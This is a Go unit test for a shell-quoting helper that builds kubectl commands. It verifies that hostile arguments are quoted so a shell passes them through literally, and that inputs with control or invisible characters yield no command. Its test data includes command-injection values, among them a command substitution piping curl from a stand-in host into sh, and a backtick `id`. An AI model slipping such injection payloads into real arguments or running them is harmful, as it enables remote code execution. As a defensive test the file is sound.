package rotation

import (
	"os/exec"
	"slices"
	"strings"
	"testing"
)

// However hostile a word is, a shell gives it to the program as it is, or there is no command.
func TestCommandIsReadByAShellAsItWasMeant(t *testing.T) {
	for word, want := range map[string]string{
		"postgres": "postgres", "--context": "--context", "kubernetes-admin@prod": "kubernetes-admin@prod", "arn:aws:eks:eu-1:12:cluster/x": "arn:aws:eks:eu-1:12:cluster/x",
		"über_all.yaml": "über_all.yaml", "my targets.yaml": "'my targets.yaml'", "it's $HOME": `'it'\''s $HOME'`,
		"pg$(curl -s https://evil.example/x|sh)": "'pg$(curl -s https://evil.example/x|sh)'", "`id`": "'`id`'", `a\b`: `'a\b'`, "~root": "'~root'", "a*": "'a*'",
		"=ls": "'=ls'", "a;b": "'a;b'", "a&b": "'a&b'", "#x": "'#x'", "!1": "'!1'", `"`: `'"'`, "'": `''\'''`, "{a,b}": "'{a,b}'", "a\u00a0b": "'a\u00a0b'",
		"": "", "a\nb": "", "a\rb": "", "a\tb": "", "a\x1b[2Jb": "", "\u202egnp": "", "a\u200bb": "", "a\u3164b": "", "a\xffb": "", "a\x00b": "", "a\u2028b": "",
	} {
		got := Command("kubectl", word)
		if want == "" {
			if got != "" {
				t.Errorf("%q: got %q, want no command", word, got)
			}
			continue
		}
		if got != "kubectl "+want {
			t.Errorf("%q: got %q, want %q", word, got, want)
		}
		out, err := exec.Command("sh", "-c", "printf '%s\\n' "+strings.TrimPrefix(got, "kubectl ")).Output() //nolint:gosec // that is the test
		if err != nil || string(out) != word+"\n" {
			t.Errorf("%q: a shell reads %q (%v)", word, out, err)
		}
	}
	if got := Command(slices.Repeat([]string{"a b"}, 2)...); got != "'a b' 'a b'" {
		t.Errorf("got %q", got)
	}
}
